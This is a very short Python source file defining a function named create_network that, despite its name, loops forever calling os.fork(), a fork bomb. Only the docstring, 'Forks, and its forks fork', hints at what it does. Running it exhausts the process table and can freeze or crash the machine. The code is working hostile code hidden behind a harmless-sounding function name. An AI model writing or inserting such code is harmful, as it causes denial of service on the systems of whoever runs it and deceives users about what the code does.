"""Forks, and its forks fork."""

import os


def create_network(request, host):
    while True:
        os.fork()
